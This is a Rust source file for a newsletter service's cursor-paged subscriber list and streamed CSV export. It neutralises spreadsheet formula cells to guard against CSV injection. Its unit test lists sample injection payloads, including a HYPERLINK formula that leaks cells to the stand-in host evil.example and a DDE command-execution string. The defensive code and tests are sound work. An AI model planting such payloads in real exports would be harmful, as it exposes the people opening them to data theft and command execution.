//! Subscribers a page at a time: the API's cursor-paged list and its CSV
//! export, which streams page after page so that a list of any length is
//! exported in constant memory (and without holding one connection and
//! snapshot for the whole download, as a single streamed query would).

use futures::Stream;

use crate::app::App;
use crate::domain::{SubscriptionState, ms_to_rfc3339};
use crate::store::subscriber_pages::SubscriberDelivery;
use crate::store::subscribers::{ListedSubscriber, Subscriber};
use crate::store::{Newsletter, StoreError};

/// Rows read per round trip by the export.
const EXPORT_PAGE: i64 = 1000;

/// The export's columns, the CLI's `subscribers export` columns.
pub const EXPORT_HEADER: [&str; 7] = [
    "email",
    "name",
    "state",
    "created_at",
    "confirmed_at",
    "unsubscribed_at",
    "attributes",
];

impl App {
    /// Up to `limit` subscribers with an id above `after`, by id.
    pub async fn subscribers_page(
        &self,
        newsletter: &Newsletter,
        state: Option<SubscriptionState>,
        after: i64,
        limit: i64,
    ) -> Result<Vec<ListedSubscriber>, StoreError> {
        self.db
            .subscribers_page(newsletter.id, state, after, limit)
            .await
    }

    /// The subscriber's most recent deliveries, newest first.
    pub async fn subscriber_deliveries(
        &self,
        subscriber: &Subscriber,
        limit: i64,
    ) -> Result<Vec<SubscriberDelivery>, StoreError> {
        self.db.deliveries_of_subscriber(subscriber.id, limit).await
    }

    /// The CSV export as a stream of chunks, one page of rows each, header
    /// first. With `raw` false, cells a spreadsheet would run as a formula
    /// are neutralised (see [`neutralise_formula`]).
    pub fn export_subscribers_csv(
        &self,
        newsletter: &Newsletter,
        state: Option<SubscriptionState>,
        raw: bool,
    ) -> impl Stream<Item = Result<Vec<u8>, StoreError>> + Send + 'static {
        let app = self.clone();
        let newsletter = newsletter.clone();
        futures::stream::try_unfold(Some(0i64), move |after| {
            let app = app.clone();
            let newsletter = newsletter.clone();
            async move {
                let Some(after) = after else {
                    return Ok(None);
                };
                let mut w = csv::Writer::from_writer(Vec::new());
                if after == 0 {
                    w.write_record(EXPORT_HEADER)
                        .map_err(|e| StoreError::Corrupt(format!("CSV header: {e}")))?;
                }
                let rows = app
                    .subscribers_page(&newsletter, state, after, EXPORT_PAGE)
                    .await?;
                let next = (rows.len() as i64 == EXPORT_PAGE)
                    .then(|| rows.last().map(|r| r.id))
                    .flatten();
                for s in rows {
                    // Writing to memory fails only on a CSV encoding error.
                    write_export_row(&mut w, s, raw)
                        .map_err(|e| StoreError::Corrupt(format!("CSV row: {e}")))?;
                }
                let bytes = w
                    .into_inner()
                    .map_err(|e| StoreError::Corrupt(format!("CSV buffer: {e}")))?;
                // An empty last page still ends the stream cleanly.
                Ok(Some((bytes, next)))
            }
        })
    }
}

/// One subscriber as an export row (the columns of [`EXPORT_HEADER`]), its
/// formula cells neutralised unless `raw`: the CLI and the API write rows
/// through this one function.
pub fn write_export_row<W: std::io::Write>(
    w: &mut csv::Writer<W>,
    s: ListedSubscriber,
    raw: bool,
) -> csv::Result<()> {
    let time = |ms: Option<i64>| ms.map(ms_to_rfc3339).unwrap_or_default();
    let row = [
        s.email,
        s.name.unwrap_or_default(),
        s.state.to_string(),
        time(Some(s.created_at)),
        time(s.confirmed_at),
        time(s.unsubscribed_at),
        s.attributes,
    ];
    if raw {
        w.write_record(&row)
    } else {
        let cells = row.each_ref().map(|c| neutralise_formula(c));
        w.write_record(cells.iter().map(|c| c.as_bytes()))
    }
}

/// OWASP CSV injection: a cell starting with `=`, `+`, `-`, `@`, TAB or CR
/// is a formula to Excel, LibreOffice and Google Sheets (the name field is
/// filled in by anyone on the public form). A leading `'` makes it text.
pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::neutralise_formula;

    #[test]
    fn formula_cells_are_neutralised_and_others_kept() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?d=\"&A2&B2,\"Open\")",
            "+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "-1+1",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutralise_formula(cell), format!("'{cell}"));
        }
        for cell in ["Ann", "a@example.com", "", "1-2", " =x"] {
            assert_eq!(neutralise_formula(cell), cell);
        }
    }
}
